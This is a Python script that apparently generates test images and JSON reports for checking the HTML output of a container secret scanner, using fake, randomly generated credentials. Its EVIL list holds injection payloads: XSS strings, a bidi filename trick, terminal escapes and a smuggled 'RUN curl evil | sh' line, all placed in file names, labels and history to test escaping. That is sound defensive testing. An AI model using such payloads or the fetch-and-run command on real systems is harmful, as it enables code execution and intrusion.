#!/usr/bin/env python3
"""Makes what tests/html/check.py looks at: images to scan, and JSON reports with everything in them that a report can have.

    tests/html/make.py DIR          large.tar, hostile.tar and absent.tar, and reports: full.json, wide.json, incomplete.json, clean.json
    tests/html/make.py --enrich     reads a JSON report, writes it with made-up changes, trees and context

Fake secrets are put together at run time, and layers in memory: nothing here looks like a live key, and no file is a whiteout.
"""

import hashlib
import io
import json
import pathlib
import random
import string
import sys
import tarfile

LETTERS = string.ascii_letters + string.digits
GONE = "." + "wh."


def secret(dice, length=24):
    return "".join(dice.choice(LETTERS) for _ in range(length))


def layer(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, content in files:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def image(path, layers, history, config=None, tags=("made:1",), absent=()):
    """Writes an archive as `docker save` does."""
    diff_ids = ["sha256:" + hashlib.sha256(data).hexdigest() for data in layers]
    document = {"architecture": "amd64", "os": "linux", "docker_version": "20", "config": config or {}, "history": history,
                "rootfs": {"type": "layers", "diff_ids": diff_ids}}
    text = json.dumps(document).encode()
    name = hashlib.sha256(text).hexdigest() + ".json"
    members = [f"{at:03d}/layer.tar" for at in range(len(layers))]
    manifest = json.dumps([{"Config": name, "RepoTags": list(tags), "Layers": members}]).encode()
    with tarfile.open(path, "w") as tar:
        for member, data in [(name, text), *((m, d) for at, (m, d) in enumerate(zip(members, layers)) if at not in absent), ("manifest.json", manifest)]:
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def large(path):
    """60 layers, more than 500 findings: some deleted, some overwritten."""
    dice = random.Random(7)
    layers, history = [], []
    for at in range(60):
        files = [(f"srv/app{at}/conf{n}/.env", f"DB_HOST=db\nDB_PASSWORD={secret(dice)}\n".encode()) for n in range(9)]
        if at > 3:
            files.append((f"srv/app{at - 3}/conf0/{GONE}.env", b""))
            files.append((f"srv/app{at - 3}/conf1/.env", b"nothing\n"))
        if at % 10 == 9:
            files.append((f"srv/app{at - 5}/{GONE}conf2", b""))
        layers.append(layer(files))
        history.append({"created_by": f"/bin/sh -c #(nop) COPY dir:{hashlib.sha256(bytes([at])).hexdigest()} in /srv/app{at} "})
    history.append({"created_by": f"/bin/sh -c #(nop)  ENV API_TOKEN={secret(dice, 32)}", "empty_layer": True})
    image(path, layers, history, {"Env": [f"API_TOKEN={secret(dice, 32)}"]}, ("large:60",))


EVIL = ["</style><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\u202egnp.exe\u202c\u200b", "\x1b[31mred\x1b[0m\x07",
        "a\nRUN curl evil | sh", "</title></svg><svg onload=alert(1)>", "`</code></pre>`", "&lt;b&gt;&#x3c;", "x" * 4000, "W" * 240, "\u0e49" * 60 + "é" * 60]


def hostile(path):
    dice = random.Random(8)
    layers, history, env, labels = [], [], [], {}
    for at, evil in enumerate(EVIL):
        name = evil.replace("/", "∕").replace("\0", "")[:200]
        files = [(f"{name}/{name}.env", f"{evil.splitlines()[0]} DB_PASSWORD={secret(dice)}\n".encode())]
        if at:
            before = EVIL[at - 1].replace("/", "∕")[:200]
            files.append((f"{before}/{GONE}{before}.env", b""))
        layers.append(layer(files))
        history.append({"created_by": f"RUN |1 {evil}_TOKEN={secret(dice)} /bin/sh -c echo {evil} PASSWORD={secret(dice)} # buildkit"})
        env.append(f"{evil}_PASSWORD={secret(dice)}")
        labels[f"{evil}_PASSWORD"] = secret(dice)
    image(path, layers, history, {"Env": env, "Labels": labels, "Cmd": [f"--password={secret(dice)}{EVIL[0]}"]}, [f"evil{at}:{evil[:200]}" for at, evil in enumerate(EVIL[:8])])


def absent(path):
    dice = random.Random(9)
    layers = [layer([(f"app/{at}.env", f"DB_PASSWORD={secret(dice)}\n".encode())]) for at in range(5)]
    image(path, layers, [{"created_by": f"/bin/sh -c make step{at}"} for at in range(5)], tags=("absent:1",), absent=(2,))


def tree(dice, name="", depth=0):
    if depth == 4 or depth > 1 and dice.random() < 0.4:
        hidden = dice.choice([0, 0, 0, 1]) * dice.randrange(1, 1 << 22)
        visible = dice.choice([0, 1, 1]) * dice.randrange(1, 1 << 23)
        return {"name": name, "visible": visible, "hidden": hidden + (0 if visible else 1000)}
    names = ["usr", "app", "var", "opt", "etc", "root", "srv"] if depth == 0 else [f"{dice.choice(['lib', 'share', 'node_modules', 'cache', 'bin', 'config'])}{n}" for n in range(dice.randrange(2, 9))]
    children = sorted((tree(dice, child, depth + 1) for child in names), key=lambda c: -c["visible"] - c["hidden"])
    return {"name": name, "visible": sum(c["visible"] for c in children), "hidden": sum(c["hidden"] for c in children), "children": children}


def enrich(report):
    dice = random.Random(10)
    for entry in report["images"]:
        entry["tree"] = tree(dice)
        for one in entry["layers"]:
            hidden = dice.randrange(0, 4)
            one["changes"] = {"added": dice.randrange(90), "changed": dice.randrange(9), "rewritten": dice.randrange(3), "removed": dice.randrange(3),
                              "bytes": one["size"], "hidden": hidden, "hidden_bytes": one["size"] // 3 if hidden else 0}
    for entry in report["findings"]:
        entry["context"] = "DB_HOST=db DB_PASSWORD=… # the database of the shop"
    return report


def finding(at, **parts):
    group = parts.pop("group", at)
    return {"id": f"{at:020x}", "image": 0, "rule": "generic-password", "provider": "generic", "title": "Password", "severity": "medium",
            "confidence": "high", "secret": {"redacted": "********", "length": 16, "group": group},
            "location": {"kind": "file", "layer": 2, "diff_id": "sha256:00", "path": "app/.env", "line": 2, "column": 13, "offset": 24},
            "instruction": "COPY . /app", "instruction_certain": True, "fate": {"state": "present"}, "also_visible": [], "recoverable": True,
            "retrieve": "tar -xOf app.tar blobs/sha256/4b1f | tar -xOf - app/.env", "rewritten_in": [], "engine_dependent": None, "public": None,
            "parts": [], "facts": {}, "reasons": [], "revoke": None, **parts}


def place(path, layer, line=1):
    return {"kind": "file", "layer": layer, "diff_id": "sha256:00", "path": path, "line": line, "column": 13, "offset": 24}


def meta(kind, **parts):
    return {"kind": kind, "pointer": "/config", "line": 1, "column": 1, "offset": 0, **parts}


STEPS = ["ADD rootfs.tar.xz /", "RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates curl git nodejs npm && rm -rf /var/lib/apt/lists/*",
         "COPY . /app", "RUN npm config set //registry.npmjs.org/:_authToken=npm_****************************7Qx2 && npm ci",
         "RUN git clone https://deploy:********@git.example.com/shop/themes.git /app/themes", "RUN rm -rf /app/.env /app/.npmrc /app/themes/.git",
         "RUN chown -R node /app", "COPY prod.conf /app/config/default.json"]


def layers(steps, dice):
    return [{"index": at, "diff_id": "sha256:" + secret(dice, 64), "blob": "sha256:" + secret(dice, 64), "size": dice.randrange(1000, 40_000_000), "instruction": step, "base": at == 0}
            for at, step in enumerate(steps)]


def report(images, findings, **parts):
    return {"schema_version": 1, "tool": {"name": "pentimento", "version": "0.1.0", "rules": "9f1c2ab37d60"}, "verdict": "found" if findings else "clean",
            "complete": True, "images": images, "findings": findings, "suppressed": [], "notes": [], "problems": [],
            "coverage": {"bytes_read": 182_400_000, "bytes_scanned": 181_000_000, "files": 9123, "layers": 8, "skipped": []}, **parts}


def full():
    """Every fate and kind, two images."""
    dice = random.Random(11)
    one = {"source": "app.tar", "names": ["shop/web:2.4.1", "shop/web:latest"], "config": "sha256:" + secret(dice, 64), "platform": "linux/amd64",
           "kind": "image", "orphan": False, "layers": layers(STEPS, dice)}
    two = {**one, "names": ["shop/web:2.4.1-arm"], "platform": "linux/arm64", "layers": layers(STEPS[:4], dice)}
    gone = {"state": "deleted", "how": "whiteout", "by_layer": 5, "by_instruction": STEPS[5]}
    stars = "*" * 28
    findings = [
        finding(1, title="AWS access key", rule="aws-access-key-id", provider="AWS", severity="critical", secret={"redacted": "AKIA************3QWX", "length": 20, "group": 1}, fate=gone,
                location=place("app/.env", 2), facts={"account": "123456789012", "kind": "long-term"}, parts=[{"name": "secret access key", "redacted": "********"}],
                revoke="console.aws.amazon.com → IAM → Users → Security credentials → deactivate and delete the key", reasons=["the account id is well-formed"], rewritten_in=[3]),
        finding(2, image=1, group=1, title="AWS access key", provider="AWS", severity="critical", secret={"redacted": "AKIA************3QWX", "length": 20, "group": 1}, location=place("app/.env", 2)),
        finding(3, title="npm access token", rule="npm-token", provider="npm", severity="critical", secret={"redacted": f"npm_{stars}7Qx2", "length": 40, "group": 3}, instruction=STEPS[3],
                location=meta("history", step=3), fate={"state": "config", "how": "historic"}),
        finding(4, group=3, title="npm access token", rule="npm-token", provider="npm", severity="critical", secret={"redacted": f"npm_{stars}7Qx2", "length": 40, "group": 3}, instruction=STEPS[3],
                location=place("root/.npmrc", 3), fate={"state": "overwritten", "by_layer": 6, "by_instruction": STEPS[6]}),
        finding(5, title="Password in a URL", rule="url-password", severity="high", instruction=STEPS[4], location=place("app/themes/.git/config", 4, 7), fate={**gone, "how": "parent-removed"}),
        finding(6, title="Private key", rule="private-key", provider="ssh", severity="high", secret={"redacted": "********", "length": 411, "group": 6}, location=place("app/deploy_key", 2),
                also_visible=["home/node/.ssh/id_ed25519"], facts={"kind": "Ed25519", "comment": "deploy@shop"}),
        finding(7, severity="high", location=meta("env", name="DB_PASSWORD"), instruction=None, fate={"state": "config", "how": "current"}),
        finding(8, location=place("app/config/default.json", 2, 41), fate={"state": "replaced", "by_layer": 7, "by_instruction": STEPS[7]}),
        finding(9, location=place("app/config/default.json", 7, 41), instruction=STEPS[7], confidence="medium", fate={"state": "superseded"}),
        finding(10, severity="low", location=place("app/cache.bin", 2), fate={"state": "hidden"}, confidence="medium", retrieve=None),
        finding(11, severity="low", location=meta("label", name="com.example.build-url"), instruction=None, fate={"state": "config", "how": "current"}),
        finding(12, severity="low", location=meta("history", name="SENTRY_TOKEN", step=6), instruction=STEPS[6], fate={"state": "config", "how": "historic"}),
    ]
    note = {"code": "not-unpacked", "message": "a 7z archive was searched as it is stored", "source": "app.tar", "image": 0, "layer": 2, "path": "app/assets.7z"}
    return enrich(report([one, two], findings, notes=[note], suppressed=[{"reason": "public", "count": 88}]))


def wide():
    """127 layers."""
    dice = random.Random(12)
    steps = [f"RUN step-{at} && {secret(dice, 12)} --flag" for at in range(127)]
    one = {"source": "wide.tar", "names": ["wide:127"], "config": None, "platform": "linux/amd64", "kind": "image", "orphan": False, "layers": layers(steps, dice)}
    states = ["present", "deleted", "overwritten", "replaced"]
    findings = []
    for at in range(300):
        born = dice.randrange(0, 120)
        by = dice.randrange(born + 1, 127)
        state = dice.choice(states)
        fate = {"state": state} if state == "present" else {"state": state, "by_layer": by, "by_instruction": steps[by]}
        findings.append(finding(at, group=at // 2, location=place(f"srv/{at}/config/settings-{secret(dice, 6)}.env", born), instruction=steps[born], fate=fate,
                                severity=dice.choice(["critical", "high", "medium", "low"])))
    return enrich(report([one], findings))


def incomplete():
    dice = random.Random(13)
    one = {"source": "-", "names": [], "config": None, "platform": None, "kind": "image", "orphan": True, "layers": layers(STEPS[:3], dice)}
    one["layers"][1].update(blob=None, size=0, diff_id=None)
    problem = {"code": "truncated", "message": "the archive ends before its end", "source": "-", "image": 0, "layer": 1, "path": None}
    return report([one], [finding(1, location=place("app/.env", 2))], verdict="incomplete", complete=False, problems=[problem] * 3)


def clean():
    dice = random.Random(14)
    return report([{"source": "clean.tar", "names": ["clean:1"], "config": None, "platform": "linux/amd64", "kind": "image", "orphan": False, "layers": layers(STEPS[:2], dice)}], [])


def main():
    if sys.argv[1:] == ["--enrich"]:
        json.dump(enrich(json.load(sys.stdin)), sys.stdout)
        return
    where = pathlib.Path(sys.argv[1])
    where.mkdir(parents=True, exist_ok=True)
    large(where / "large.tar")
    hostile(where / "hostile.tar")
    absent(where / "absent.tar")
    for made in (full, wide, incomplete, clean):
        (where / f"{made.__name__}.json").write_text(json.dumps(made()))


if __name__ == "__main__":
    main()
